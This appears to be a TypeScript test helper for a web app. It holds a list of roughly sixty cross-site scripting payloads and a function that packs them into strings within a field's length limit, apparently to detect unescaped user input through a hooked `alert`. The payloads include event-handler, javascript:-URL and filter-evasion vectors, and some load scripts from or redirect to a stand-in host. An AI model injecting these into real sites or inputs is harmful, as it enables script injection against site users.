/** Runs only when somebody's text became markup; `alert` is hooked on every page. */
const RUN = 'alert(1)';

/** What has broken other pages: markup, attributes, addresses, templates, odd spaces and half-closed things. */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script>`,
  `<script src=//x.example></script>`,
  `</script><script>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<IMG SRC=x ONERROR=${RUN}>`,
  `<img src="x"onerror="${RUN}">`,
  `<img src=x onerror=\`${RUN}\`>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
  `</title><img src=x onerror=${RUN}>`,
  `</textarea><svg onload=${RUN}>`,
  `</style><svg onload=${RUN}>`,
  `</option><svg onload=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script>`,
  `<svg><script href=data:,${RUN} />`,
  `<svg><a xlink:href="javascript:${RUN}">x`,
  `<svg><animate onbegin=${RUN}>`,
  `<math><a href=javascript:${RUN}>x`,
  `<math><mi//xlink:href="data:x,${RUN}">`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<iframe src=javascript:${RUN}>`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<iframe onload=${RUN}>`,
  `<object data=javascript:${RUN}>`,
  `<embed src=javascript:${RUN}>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href=JaVaScRiPt:${RUN}>x</a>`,
  `<form action=javascript:${RUN}><button>x`,
  `<button formaction=javascript:${RUN}>x`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<div style="width:expression(${RUN})">`,
  `<style>@import'javascript:${RUN}'</style>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=javascript:${RUN}>`,
  `<meta http-equiv=refresh content=0;url=//x.example>`,
  `<base href=//x.example/>`,
  `<x onclick=${RUN} tabindex=1>x`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `" autofocus onfocus=${RUN} x="`,
  `' onmouseover=${RUN} x='`,
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\u003cimg src=x onerror=${RUN}\u003e <img src=x onerror=\u2028${RUN}>`,
];

/** The payloads in as few texts as hold them all, none longer than a field takes; those that fit in none are left out. */
export function packedInto(most: number): readonly string[] {
  const packed: string[] = [];
  for (const payload of PAYLOADS.filter(({ length }) => length <= most)) {
    const last = packed.at(-1);
    if (last !== undefined && last.length + 1 + payload.length <= most) packed[packed.length - 1] = `${last} ${payload}`;
    else packed.push(payload);
  }
  return packed;
}
